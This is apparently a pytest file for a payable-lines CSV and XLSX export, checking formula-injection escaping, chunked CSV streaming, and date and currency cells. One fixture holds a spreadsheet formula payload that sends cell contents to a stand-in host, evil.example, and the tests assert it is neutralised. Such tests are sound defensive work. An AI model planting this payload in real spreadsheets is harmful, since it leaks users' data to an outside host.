"""The Payable downloads: streamed CSV and XLSX, real date and currency cells, and no cell a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import openpyxl
from console_lines import NAMES, WORKER, raw

from console.adapters.spreadsheets import neutralised, payable_csv, payable_xlsx
from console.domain.payable import line_from_api, totals

EVIL_WORKERS = {WORKER: '=HYPERLINK("http://evil.example/?"&A1,"click")'}


def _lines(n: int = 3):
    return [line_from_api(raw(i), NAMES, EVIL_WORKERS) for i in range(1, n + 1)]


def test_text_a_spreadsheet_would_execute_gets_a_leading_quote():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralised(text) == "'" + text
    for text in ("Aisha Armstrong", "2024Q1", "", "a=b"):
        assert neutralised(text) == text


def test_a_formula_in_a_name_is_plain_text_in_the_csv_and_in_the_xlsx():
    lines = _lines()
    rows = list(csv.DictReader(io.StringIO(b"".join(payable_csv(lines, ["cbo", "ccg", "sof"])).decode(), newline="")))
    assert {r["link_worker"] for r in rows} == {"'" + EVIL_WORKERS[WORKER]}
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(payable_xlsx(lines, ["ccg"], totals(lines))))).active
    cell = sheet.cell(2, 7)
    assert cell.data_type == "s" and cell.value == "'" + EVIL_WORKERS[WORKER]


def test_the_csv_comes_in_chunks_and_the_xlsx_has_date_and_currency_cells():
    lines = _lines(5)
    chunks = list(payable_csv(iter(lines), ["ccg"], rows_per_chunk=2))
    assert len(chunks) == 3 and b"".join(chunks).decode().count("\r\n") == 6  # the header and five lines
    book = openpyxl.load_workbook(io.BytesIO(b"".join(payable_xlsx(iter(lines), ["ccg"], totals(lines)))))
    sheet = book["payable"]
    assert isinstance(sheet.cell(2, 4).value, datetime) and sheet.cell(2, 4).is_date
    assert Decimal(str(sheet.cell(2, 5).value)) == Decimal("200.00") and "£" in sheet.cell(2, 5).number_format
    assert [r[0] for r in book["totals_by_payer"].iter_rows(min_row=2, values_only=True)][-1] == "total"
